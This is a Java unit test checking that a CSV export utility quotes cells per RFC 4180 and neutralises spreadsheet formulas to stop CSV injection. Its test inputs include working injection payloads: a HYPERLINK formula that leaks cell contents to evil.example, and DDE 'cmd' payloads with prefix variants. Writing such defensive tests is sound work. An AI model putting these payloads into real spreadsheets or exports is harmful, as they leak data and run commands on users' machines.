package io.zonewarden.core.io;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.StringReader;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Cells of every CSV export: RFC 4180 quoting, and formulas neutralised (OWASP CSV Injection). */
class CsvCellsTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
                "+cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "\t=1+1",
                "\r=1+1",
                "=1+1",
                "＝1+1"
            })
    void a_cell_a_spreadsheet_would_run_starts_with_a_quote_and_is_quoted(String payload) throws Exception {
        var cell = CsvCells.cell(payload);
        assertThat(cell).startsWith("\"'").endsWith("\"");
        // read back as CSV, the cell is the payload behind a single quote: text, not a formula
        var read = CSVFormat.RFC4180.parse(new StringReader(cell)).getRecords();
        assertThat(read).hasSize(1);
        assertThat(read.getFirst().get(0)).isEqualTo("'" + payload);
    }

    @Test
    void ordinary_cells_are_quoted_only_when_rfc_4180_needs_it() {
        assertThat(CsvCells.cell("plain")).isEqualTo("plain");
        assertThat(CsvCells.cell("")).isEqualTo("");
        assertThat(CsvCells.cell("Integrator, \"external\"")).isEqualTo("\"Integrator, \"\"external\"\"\"");
        assertThat(CsvCells.cell("two\nlines")).isEqualTo("\"two\nlines\"");
        assertThat(CsvCells.cell("a=b")).isEqualTo("a=b");
    }

    @Test
    void plain_numbers_stay_numbers() {
        assertThat(CsvCells.cell("-3")).isEqualTo("-3");
        assertThat(CsvCells.cell("-0.5")).isEqualTo("-0.5");
        assertThat(CsvCells.cell("42")).isEqualTo("42");
        assertThat(CsvCells.cell("-3-cmd")).isEqualTo("\"'-3-cmd\"");
    }

    @Test
    void a_row_joins_its_cells_and_ends_with_crlf() {
        assertThat(CsvCells.row(List.of("a", "=1+1", "b,c"))).isEqualTo("a,\"'=1+1\",\"b,c\"\r\n");
    }
}
